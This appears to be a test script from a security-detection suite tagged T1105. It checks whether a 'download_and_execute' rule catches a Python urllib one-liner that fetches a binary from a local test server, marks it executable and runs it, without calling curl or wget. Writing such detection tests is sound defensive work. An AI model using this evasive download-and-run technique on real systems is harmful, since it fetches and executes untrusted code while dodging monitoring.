# technique: T1105 the same download with Python's urllib (no downloader program at all)
# rule: download_and_execute
# evasion-of: 100_curl_download_run
# exe: /tmp/vg-attacks-*/tool
. "$(dirname "$0")/common.bash"
fetchable tool
serve_dir "$VG_TMP/www"
python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], sys.argv[2])' \
	"http://127.0.0.1:$VG_PORT/tool" "$VG_TMP/tool"
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
